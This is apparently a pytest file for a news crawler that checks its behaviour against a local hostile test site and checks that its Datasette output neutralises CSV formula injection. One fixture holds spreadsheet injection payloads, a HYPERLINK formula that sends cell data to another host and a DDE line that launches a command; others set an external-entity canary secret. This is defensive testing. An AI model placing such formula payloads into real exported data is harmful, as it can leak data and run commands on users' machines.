"""A real `newsdb crawl` of a hostile site (tests/hostile_site.py): it ends in time, in bounded memory,
stores the four real articles once each and nothing else, never leaves the source's host, and names
every kind of failure in crawl_runs."""
import json
import re
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import FAST, ROOT
from tests.hostile_site import ARTICLES, CanaryServer, HostileSite

BUDGET_SECONDS = 60  # --max-minutes 1: the crawl ends by then whatever the site does
MAX_MEMORY = 1 << 30  # the whole process tree (crawler, forkserver, extraction workers)
CANARY_TEXT = "NEWSDB-CANARY-XXE"


def tree_memory(root: int) -> int:
    """Memory of a process and all its descendants, in bytes (Linux /proc): the sum of their proportional
    set sizes (Pss), so pages the extraction workers share with their forkserver count once."""
    parents = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            parents[int(stat.parent.name)] = int(stat.read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
    tree, frontier = {root}, [root]
    while frontier:
        pid = frontier.pop()
        kids = [p for p, parent in parents.items() if parent == pid]
        tree.update(kids)
        frontier += kids
    total = 0
    for pid in tree:
        try:
            rollup = Path(f"/proc/{pid}/smaps_rollup").read_text()
        except OSError:
            continue
        found = re.search(r"^Pss:\s+(\d+) kB", rollup, re.M)
        total += int(found.group(1)) * 1024 if found else 0
    return total


def run_measured(command: list[str], timeout: float) -> tuple[subprocess.CompletedProcess, float, int]:
    """Run command; return it finished, its duration and the peak memory of its process tree."""
    started = time.monotonic()
    proc = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    peak = 0
    while proc.poll() is None:
        peak = max(peak, tree_memory(proc.pid))
        if time.monotonic() - started > timeout:
            proc.kill()
            pytest.fail(f"the crawl ran past {timeout} s")
        time.sleep(0.1)
    out, err = proc.communicate()
    return subprocess.CompletedProcess(command, proc.returncode, out, err), time.monotonic() - started, peak


@pytest.fixture(scope="module")
def hostile_crawl(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    with CanaryServer() as canary:
        secret = tmp / "secret.txt"  # what an external entity would read: a URL on the canary host
        secret.write_text(f"{canary.base_url}/xxe-leak {CANARY_TEXT}\n")
        with HostileSite(canary.base_url, str(secret)) as site:
            sources = tmp / "sources.toml"
            sources.write_text(site.sources_toml())
            db = tmp / "news.db"
            command = [sys.executable, "-m", "newsdb.cli", "crawl", "--sources", str(sources), "--db", str(db),
                       "--max-minutes", str(BUDGET_SECONDS / 60), *FAST, "-s", "DOWNLOAD_TIMEOUT=3",
                       "-s", "NEWSDB_EXTRACT_TIMEOUT=3"]
            result, seconds, peak = run_measured(command, timeout=BUDGET_SECONDS + 60)
            print(f"\nhostile crawl: {seconds:.1f} s, peak memory (Pss) of the process tree {peak / 2**20:.0f} MB")
            yield {"db": db, "result": result, "seconds": seconds, "peak": peak, "site": site,
                   "canary": canary, "url": site.url}


def query(db, sql):
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in conn.execute(sql)]
    finally:
        conn.close()


@pytest.fixture(scope="module")
def run_record(hostile_crawl):
    run = query(hostile_crawl["db"], "select * from crawl_runs")[-1]
    return run, json.loads(run["http_errors"]), json.loads(run["stats"])


def test_the_crawl_ends_in_time_and_in_bounded_memory(hostile_crawl):
    assert hostile_crawl["result"].returncode == 0, hostile_crawl["result"].stderr[-3000:]
    assert hostile_crawl["seconds"] < BUDGET_SECONDS + 15  # the budget, plus start-up and shutdown
    assert 0 < hostile_crawl["peak"] < MAX_MEMORY


def test_every_real_article_is_stored_once_and_nothing_else(hostile_crawl):
    rows = query(hostile_crawl["db"], "select url, title, body from articles")
    assert sorted(r["url"] for r in rows) == sorted(hostile_crawl["url"](path) for path in ARTICLES)
    for row in rows:
        path = row["url"].split(":", 2)[2].split("/", 1)[1]
        assert ARTICLES["/" + path] in row["title"], "decoded with the wrong charset"
        assert "\ufffd" not in row["title"] + row["body"]


def test_it_never_reached_a_host_the_source_does_not_name(hostile_crawl):
    assert hostile_crawl["canary"].requests == []  # redirects, meta refresh, external entities
    assert CANARY_TEXT.encode() not in hostile_crawl["db"].read_bytes()
    asked = [path for path, _, _ in hostile_crawl["site"].requests]
    assert not [p for p in asked if p.startswith("/private/")], "robots.txt was not obeyed"


def test_retry_after_is_waited_for(hostile_crawl):
    busy = [moment for path, _, moment in hostile_crawl["site"].requests if path == "/busy/list.html"]
    assert len(busy) == 2 and busy[1] - busy[0] >= 1.0  # 429 with Retry-After: 1, then the page
    tomorrow = [p for p, _, _ in hostile_crawl["site"].requests if p == "/status/429-tomorrow.html"]
    assert len(tomorrow) == 1  # Retry-After: 86400 is not retried tonight


EXPECTED_HTTP_ERRORS = {
    "403": 1, "404": 1, "429": 2, "500": 1, "503": 1,  # 429: /status/429 after its retries, and tomorrow
    "DownloadTimeoutError": 1,  # the one-byte-a-second page
    "ResponseDataLossError": 1,  # the connection reset mid-body
    "robots_txt": 1,  # /private/
    "too_large": 3,  # 20 MB with Content-Length, 20 MB streamed, the gzip bomb
}
EXPECTED_COUNTERS = {
    "binary_body": 2,  # random bytes and a PDF served as text/html
    "empty_body": 1,
    "extract_timeouts": 1,  # the tag cloud of 150,000 spans (about 20 s of work)
    "charset_redetected": 1,  # a UTF-8 header over Latin-1 bytes
    "feed_malformed": 3,
    "sitemap_malformed": 1,
    "bad_link": 1,  # <loc>http://[::1</loc>: the sitemap's next link is still followed
    "xml_entities_ignored": 4,  # billion laughs and external entities, in a feed and a sitemap each
    "redirect_to_seen": 2,  # /loop/a -> /loop/b -> /loop/a, /loop/self
    "link_offsite_or_denied": 1,  # the redirect to another host
    "retry_after_waited": 3,
    "retry_after_too_long": 1,
    "dropped_not_article": 3,  # unclosed tags, the nesting bomb, generated pages...
}


def test_each_kind_of_failure_is_reported_by_name(run_record):
    run, errors, stats = run_record
    assert run["status"] == "ok"
    for name, least in EXPECTED_HTTP_ERRORS.items():
        assert errors.get(name, 0) >= least, (name, errors)
    for name, least in EXPECTED_COUNTERS.items():
        assert stats.get(f"newsdb/{name}", 0) >= least, (name, {k: v for k, v in stats.items() if "newsdb/" in k})
    assert stats.get("offsite/filtered", 0) >= 1  # the meta refresh to another host
    assert stats.get("depth/request_ignored_count", 0) + stats.get("newsdb/max_pages_reached", 0) > 0  # /gen/


def test_no_traceback_in_the_log_goes_uncounted(hostile_crawl, run_record):
    _, errors, stats = run_record
    log = "\n".join(p.read_text(errors="replace") for p in (hostile_crawl["db"].parent / "logs").glob("*.log"))
    names = " ".join([*stats, *errors])
    for block in log.split("Traceback (most recent call last):")[1:]:
        last = next((line for line in block.splitlines() if re.match(r"^[\w.]+(Error|Exception|Failure|Exit)\b", line)), "")
        name = last.split(":", 1)[0].rsplit(".", 1)[-1]
        assert name and name in names, f"a traceback not counted in the run's stats: {last or block[:500]}"


# -- safe to publish: newsdb serve ------------------------------------------------------------------------


@pytest.fixture
def hostile_db(tmp_path):
    """A database holding what a hostile page could put in its title and body."""
    from pipelines.schema import open_db

    db = tmp_path / "news.db"
    with open_db(db) as conn:
        conn["articles"].insert({"url": "http://127.0.0.7/a.html", "source": "hostile",
                                 "title": '=HYPERLINK("http://127.0.0.9/?"&A1,"Click")',
                                 "body": "@SUM(1+1)\nsecond line", "author": "-2+3", "category": "-5",
                                 "tags": '["+cmd|\' /C calc\'!A0"]', "site_name": "Plain text"})
    return db


def datasette_get(db, path):
    import asyncio

    from newsdb.serve import make_datasette

    ds = make_datasette(db)

    async def get():
        response = await ds.client.get(path)
        return response, ds

    return asyncio.run(get())


@pytest.mark.parametrize("path", ["/news/articles.csv", "/news/articles.csv?_stream=on&_dl=1"])
def test_datasette_csv_neutralises_formulas(hostile_db, path):
    import csv
    import io

    response, _ = datasette_get(hostile_db, path)
    assert response.status_code == 200
    row = next(csv.DictReader(io.StringIO(response.text)))
    assert row["title"].startswith("'=HYPERLINK") and row["body"].startswith("'@SUM")
    assert row["author"] == "'-2+3" and row["category"] == "-5"  # a formula; a number stays a number
    assert row["body"].endswith("second line") and row["site_name"] == "Plain text"


def test_datasette_csv_formulas_can_be_kept(hostile_db):
    import csv
    import io

    response, _ = datasette_get(hostile_db, "/news/articles.csv?_formulas=on")
    row = next(csv.DictReader(io.StringIO(response.text)))
    assert row["title"].startswith("=HYPERLINK")


def test_the_csv_neutraliser_keeps_records_whole_across_chunks():
    from newsdb.datasette.plugins.newsdb_csv import CsvNeutraliser

    data = 'a,b\r\n"=1\r\n,""x""",@y\r\n-3,+z\r\n'.encode()
    for size in (1, 2, 5, 64):
        n = CsvNeutraliser()
        chunks = [data[i:i + size] for i in range(0, len(data), size)]
        out = b"".join(n.feed(c) for c in chunks) + n.feed(b"", final=True)
        assert out == "a,b\r\n\"'=1\r\n,\"\"x\"\"\",'@y\r\n-3,'+z\r\n".encode()


def test_datasette_is_read_only_and_time_limited(hostile_db):
    from newsdb.serve import SETTINGS, build_metadata

    assert SETTINGS["sql_time_limit_ms"] > 0
    queries = build_metadata("news")["databases"]["news"].get("queries", {})
    assert not [name for name, q in queries.items() if isinstance(q, dict) and q.get("write")]
    response, ds = datasette_get(hostile_db, "/-/plugins.json")
    writers = [p["name"] for p in response.json() if re.search(r"write|insert|upload|edit|import|update", p["name"])]
    assert not writers  # datasette-write, -insert, -upload-csvs, -edit-schema... would open a write connection
    database = ds.get_database("news")
    assert database.is_mutable and database._write_connection is None  # reads only, through ?mode=ro


def test_a_public_address_warns_unless_public_is_given(hostile_db, monkeypatch, capsys):
    import newsdb.serve as serve_module

    class NoServer:  # nothing is bound: only the warning is under test
        def __init__(self, command):
            self.command = command

        def wait(self, timeout=None):
            return 0

    monkeypatch.setattr(serve_module.subprocess, "Popen", NoServer)
    assert serve_module.serve(hostile_db, "0.0.0.0", 8999) == 0
    assert "WARNING" in capsys.readouterr().err
    assert serve_module.serve(hostile_db, "0.0.0.0", 8999, public=True) == 0
    assert "WARNING" not in capsys.readouterr().err
    assert serve_module.serve(hostile_db, "127.0.0.1", 8999) == 0
    assert "WARNING" not in capsys.readouterr().err
